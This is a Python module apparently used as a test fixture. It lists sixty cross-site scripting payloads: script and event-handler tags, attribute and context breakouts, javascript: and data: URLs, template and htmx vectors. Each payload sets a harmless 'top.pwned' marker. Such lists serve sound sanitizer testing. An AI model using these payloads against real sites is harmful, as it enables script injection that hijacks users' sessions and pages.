"""Sixty ways to have a page run what somebody has typed. Each would set `top.pwned`."""

from __future__ import annotations

RUN = "top.pwned=1"
TAGS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=data:,{run}></script>", "<script>{run}//",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", "<img/src=x/onerror={run}>", "<svg onload={run}>",
    "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>", "<iframe src=javascript:{run}>", '<iframe srcdoc="<script>{run}</script>">',
    "<object data=javascript:{run}>", "<embed src=javascript:{run}>", "<details open ontoggle={run}>",
    "<video><source onerror={run}>", "<audio src=x onerror={run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<marquee onstart={run}>",
    "<math href=javascript:{run}>x", "<a href=javascript:{run}>x</a>", "<form action=javascript:{run}><button>x",
    "<button formaction=javascript:{run}>x", "<base href=javascript:{run}//>", "<meta http-equiv=refresh content='0;javascript:{run}'>",
    "<link rel=stylesheet href=data:,{run}>", "<style>@import 'javascript:{run}'</style>", "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<div hx-get='/' hx-on::load='{run}'>x</div>",
    "<div hx-trigger='load' hx-on:htmx:load='{run}'>", "<div hx-vals='js:{{a:{run}}}' hx-get='/' hx-trigger='load'>",
    "<x onpointerenter={run} style=position:fixed;inset:0>", "<p style=animation:x onanimationstart={run}>",
)  # fmt: skip
OUT_OF_ATTRIBUTES = (
    '" onmouseover="{run}', "' onmouseover='{run}", '"><script>{run}</script>', "'><script>{run}</script>",
    '"><img src=x onerror={run}>', "` onmouseover=`{run}", '" autofocus onfocus="{run}" x="', "--><script>{run}</script>",
    "]]><script>{run}</script>", "</title><script>{run}</script>", "</textarea><script>{run}</script>",
    "</script><script>{run}</script>", "</style><script>{run}</script>", "</option></select><svg onload={run}>",
)  # fmt: skip
ELSEWHERE = (
    "javascript:{run}", "JaVaScRiPt:{run}", "data:text/html,<script>{run}</script>", "vbscript:{run}", "';{run};//",
    '";{run};//', "${{{run}}}", "{{{{{run}}}}}", "\u202e<script>{run}</script>",
)  # fmt: skip

PAYLOADS = tuple(text.format(run=RUN) for text in (*TAGS, *OUT_OF_ATTRIBUTES, *ELSEWHERE))
